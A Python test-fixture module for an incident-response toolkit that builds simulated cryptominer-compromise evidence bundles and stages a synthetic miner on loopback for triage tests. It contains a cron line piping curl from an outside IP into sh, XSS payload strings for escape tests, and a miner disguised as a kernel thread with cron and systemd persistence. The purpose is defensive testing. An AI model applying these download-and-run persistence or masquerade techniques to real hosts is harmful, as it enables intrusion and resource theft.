"""Bundles for timeline/report/review tests, written with the real EvidenceWriter.

The records follow the schemas other parts of irkit write (process, socket, persistence,
session, finding, ioc) and include a type no part knows ("gpu"), so the report's generic path
is exercised. Copied files are real files created by the test (names with `|` and ANSI
escapes included) and copied through `copy_open_file`, as a collector does.
"""

import json
import os
import shutil
import signal
import subprocess
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

from irkit.evidence.records import Finding, Record
from irkit.evidence.writer import Custody, EvidenceWriter, host_file_member
from irkit.timeutil import utc_iso

XSS_CMDLINE = "<img src=x onerror=alert(1)>"
ANSI_NAME = "miner\x1b[31mRED\x1b[0m\x07.sh"
PIPE_NAME = "a|b.conf"
SCRIPT_TITLE = "</script><script>alert(2)</script><!--"


def jsonl(records: Iterable[Mapping[str, Any] | Record]) -> bytes:
    lines = [
        json.dumps(r.to_dict() if isinstance(r, Record) else dict(r), ensure_ascii=True)
        for r in records
    ]
    return "".join(line + "\n" for line in lines).encode()


def process(pid: int, ppid: int, name: str, cmdline: list[str], **extra: Any) -> dict[str, Any]:
    record: dict[str, Any] = {
        "type": "process",
        "pid": pid,
        "ppid": ppid,
        "name": name,
        "exe": f"/usr/bin/{name}",
        "cmdline": cmdline,
        "cwd": "/",
        "uid": 0,
        "gid": 0,
        "user": "root",
        "start_time": "2026-11-30T10:00:00.000000Z",
        "state": "S",
        "flags": [],
        "exe_deleted": False,
        "exe_member": None,
    }
    record.update(extra)
    return record


def scenario_records() -> dict[str, list[Any]]:
    """A miner scenario: a masquerading process, a pool socket, cron persistence, findings."""
    return {
        "records/processes.jsonl": [
            process(1, 0, "systemd", ["/sbin/init"], start_time="2026-11-29T08:00:00.000000Z"),
            process(812, 1, "sshd", ["sshd: /usr/sbin/sshd -D"]),
            process(
                4242,
                812,
                "kworker/0:1",
                [XSS_CMDLINE],
                exe="/tmp/.x/kworker (deleted)",
                exe_deleted=True,
                flags=["exe-deleted", "kernel-thread-imitation"],
                start_time="2026-11-30T10:05:00.123456Z",
                cpu_percent=398.0,
            ),
        ],
        "records/sockets.jsonl": [
            {
                "type": "socket",
                "proto": "tcp",
                "local_address": "127.0.0.1",
                "local_port": 43210,
                "remote_address": "203.0.113.7",
                "remote_port": 3333,
                "state": "ESTABLISHED",
                "pid": 4242,
                "process_name": "kworker/0:1",
                "inode": 99,
                "flags": ["pool-port"],
            }
        ],
        "records/persistence.jsonl": [
            {
                "type": "persistence",
                "mechanism": "cron",
                "source": "/etc/crontab",
                "line": 12,
                "owner": "root",
                "schedule": "*/5 * * * *",
                "command": "curl -fsSL http://203.0.113.7/x.sh | sh",
                "mtime": "2026-11-30T10:04:00.000000Z",
                "ctime": "2026-11-30T10:04:00.000000Z",
                "sha256": "0" * 64,
                "member": "files/etc/crontab",
                "detail": {},
            },
            {
                "type": "persistence",
                "mechanism": "systemd",
                "source": "/etc/systemd/system/kworker.service",
                "line": None,
                "owner": "root",
                "schedule": None,
                "command": "/tmp/.x/kworker",
                "mtime": "2026-11-30T10:04:30.000000Z",
                "ctime": "2026-11-30T10:04:30.000000Z",
                "sha256": "1" * 64,
                "member": None,
                "detail": {"unit": "kworker.service"},
            },
        ],
        "records/host.jsonl": [
            {
                "type": "session",
                "source": "/run/utmp",
                "user": "deploy",
                "line": "pts/0",
                "host": "198.51.100.20",
                "address": "198.51.100.20",
                "pid": 812,
                "time": "2026-11-30T10:03:00.000000Z",
            }
        ],
        "records/gpu.jsonl": [
            {"type": "gpu", "index": 0, "utilization": 99, "sample_time": "2026-11-30T10:06:00Z"}
        ],
        "records/iocs.jsonl": [{"type": "ioc", "kind": "ip", "value": "203.0.113.7"}],
        "records/findings.jsonl": [
            Finding(
                title="Miner hiding as a kernel thread, executable deleted",
                severity="high",
                source="analysis",
                reasons=["name imitates a kernel thread but has an exe", "exe deleted"],
                pid=4242,
                mitre=["T1496", "T1036"],
                evidence=["records/processes.jsonl", "records/sockets.jsonl"],
                time="2026-11-30T10:05:00.123456Z",
            ),
            Finding(
                title="Cron entry downloads and runs a script",
                severity="medium",
                source="analysis",
                reasons=["curl piped into sh every 5 minutes"],
                path="/etc/crontab",
                mitre=["T1053.003"],
                evidence=["files/etc/crontab"],
            ),
            Finding(title=SCRIPT_TITLE, severity="low", source="test", path="/tmp/" + ANSI_NAME),
        ],
    }


def copy_real_file(writer: EvidenceWriter, real: Path, origin: str) -> None:
    with real.open("rb") as handle:
        writer.copy_open_file(handle, origin, host_file_member(origin), collector="test")


def host_files(tmp: Path) -> dict[str, Path]:
    """Real files to copy, keyed by the host path they stand for."""
    tree = tmp / "hostfiles"
    tree.mkdir(exist_ok=True)
    files = {
        "/etc/crontab": b"*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n",
        "/tmp/" + ANSI_NAME: b"#!/bin/sh\n",
        "/etc/" + PIPE_NAME: b"pipe=1\n",
    }
    paths = {}
    for index, (origin, data) in enumerate(files.items()):
        real = tree / f"f{index}-{Path(origin).name}"
        real.write_bytes(data)
        os.utime(real, (1_764_496_800 + index, 1_764_496_000 + index))
        paths[origin] = real
    return paths


def write_bundle(
    path: Path,
    records: Mapping[str, Sequence[Any]],
    *,
    files: Mapping[str, Path] | None = None,
    hostname: str = "miner-host",
    iocs: Any = None,
    custody: Custody | None = None,
) -> Path:
    with path.open("wb") as sink:
        writer = EvidenceWriter(sink, command_line=["irkit", "test"], custody=custody)
        writer.host["hostname"] = hostname
        writer.log.add("collection-start", "irkit")
        for origin, real in (files or {}).items():
            copy_real_file(writer, real, origin)
        for member, items in records.items():
            writer.write_bytes(member, jsonl(items), collector="test")
        if iocs is not None:
            writer.write_bytes("iocs.json", json.dumps(iocs).encode(), collector="test")
        writer.close(complete=True)
    return path


def scenario_bundle(
    tmp: Path, name: str = "case.zip", hostname: str = "miner-host", custody: Custody | None = None
) -> Path:
    return write_bundle(
        tmp / name,
        scenario_records(),
        files=host_files(tmp),
        hostname=hostname,
        iocs={"domains": ["pool.example.invalid"], "sha256": ["ab" * 32]},
        custody=custody,
    )


def large_bundle(path: Path, events: int) -> Path:
    """A bundle whose timeline has `events` events: copied-file records (three times each),
    a few processes and a finding; the records are written directly, the data is synthetic."""
    files = events // 3
    base = 1_764_000_000
    records = [
        {
            "type": "file",
            "path": f"/var/lib/app/{'cron' if i % 100 == 0 else 'data'}/{i:06d}.bin",
            "member": f"files/var/lib/app/{i:06d}.bin",
            "collector": "bench",
            "sha256": f"{i:064x}",
            "size": i,
            "mode": 0o100644,
            "uid": 0,
            "gid": 0,
            "mtime": utc_iso(base + i),
            "atime": utc_iso(base + 2 * i),
            "ctime": utc_iso(base + i + 7),
            "partial": False,
        }
        for i in range(files)
    ]
    extra = events - 3 * files
    processes = [
        process(100 + i, 1, "worker", ["worker", str(i)], start_time=utc_iso(base + i))
        for i in range(extra)
    ]
    finding = Finding(title="synthetic finding", severity="medium", source="bench", pid=100)
    with path.open("wb") as sink:
        writer = EvidenceWriter(sink, command_line=["irkit", "bench"])
        writer.host["hostname"] = "bench-host"
        writer.write_bytes("records/files-bench.jsonl", jsonl(records), collector="bench")
        writer.write_bytes("records/processes.jsonl", jsonl(processes), collector="bench")
        writer.write_records("records/findings.jsonl", [finding], collector="bench")
        writer.close(complete=True)
    return path


TRIAGE_EXIT = (1, 3)
"""Findings; or incomplete, when this machine denies some reads even to root (livehost.py)."""


def triage_bundle(work: Path) -> tuple[Path, dict[str, int]]:
    """A real `irkit triage` of this machine with an incident planted on it: an "agent" (a bash
    script) runs `sh -c` that starts a synthetic miner from a hidden directory, named like a
    kernel thread and logged in to a stratum server on loopback; a fixture root holds its cron
    and systemd persistence. Returns the bundle and the pids the scene started (agent, shell,
    miner). Needs gcc for the miner; the processes are stopped before this returns."""
    from tests.conftest import irkit_command, irkit_env
    from tests.minersample import build_miner, stratum_server, synthetic_monero_wallet

    wallet = synthetic_monero_wallet()
    with stratum_server() as (port, _logins):
        hidden = work / ".cache" / ".x"
        hidden.mkdir(parents=True)
        exe = hidden / "kworkerds"
        shutil.copy2(build_miner(work, wallet, port), exe)
        miner = f"{exe} --url=stratum+tcp://127.0.0.1:{port} --user={wallet}.rig01 -a rx/0"
        agent = work / "agent.sh"
        agent.write_text(f"#!/bin/bash\nsh -c '{miner}; true'\n")
        root = work / "root"
        for name, text in {
            "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
            "etc/crontab": f"SHELL=/bin/sh\n*/5 * * * * root {exe} >/dev/null 2>&1\n",
            "etc/systemd/system/kworker.service": f"[Service]\nExecStart={exe}\n",
        }.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(text)
        scene = subprocess.Popen(
            ["bash", str(agent)], stdout=subprocess.PIPE, start_new_session=True
        )
        try:
            assert scene.stdout is not None
            assert scene.stdout.readline().strip() == b"ready"
            pids = {"agent": scene.pid, **_children_of(scene.pid)}
            bundle = work / "triage.zip"
            done = subprocess.run(
                irkit_command("triage", "--root", root, "--proc", "/proc", "-o", bundle, "-q"),
                env=irkit_env(),
                capture_output=True,
                timeout=600,
                check=False,
            )
            assert done.returncode in TRIAGE_EXIT, done.stderr.decode()
        finally:
            os.killpg(scene.pid, signal.SIGKILL)
            scene.wait()
    return bundle, pids


def _children_of(agent: int) -> dict[str, int]:
    """The shell the agent started and the miner that shell started, from /proc."""
    shell = _child(agent)
    return {"shell": shell, "miner": _child(shell)}


def _child(pid: int) -> int:
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    assert len(children) == 1, children
    return int(children[0])
